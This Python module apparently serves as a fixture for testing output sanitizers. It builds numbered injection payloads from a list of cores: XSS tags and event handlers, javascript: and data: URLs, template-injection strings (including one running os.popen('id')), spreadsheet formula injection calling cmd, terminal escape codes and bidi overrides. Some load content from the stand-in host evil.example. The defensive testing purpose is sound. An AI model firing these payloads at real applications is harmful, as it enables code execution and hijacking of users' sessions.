"""What hostile people write: markup, handlers, addresses, templates, formulas, escapes and bidirectional overrides.

Each calls `canary()` if it ever runs. Every payload names itself by a number, so that each can be found on a page.
"""

from collections.abc import Iterator
from itertools import product

CORES = (
    "<script>canary()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=canary()>",
    "<img src='//evil.example/i.png'>",
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<iframe src='javascript:parent.canary()'></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.canary()</script>'></object>",
    "<body onload=canary()>",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<a href='javascript:canary()'>x</a>",
    "<form action='//evil.example/'><button>x</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/b)'>",
    "<div hx-get='/ask' hx-trigger='load'>x</div>",
    "<div data-beacon='//evil.example/'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=canary()></style>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><script>canary()</script></template>",
    "[x](javascript:canary())",
    "![x](//evil.example/i.png)",
    "javascript:canary()",
    "data:text/html,<script>canary()</script>",
    "{{7*7}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("//evil.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m \x1b]8;;//evil.example/\x07x\x1b]8;;\x07",
    "\u202egnp.exe\u202c \u2066\u202d",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
)
AROUND = ("{}", '">{}', "'>{}", "</textarea></title></style></script>{}", "-->{}<!--")


def payloads() -> Iterator[str]:
    """Every core in every surrounding, numbered."""
    for number, (core, around) in enumerate(product(CORES, AROUND)):
        yield f"p{number:03d} " + around.replace("{}", core)
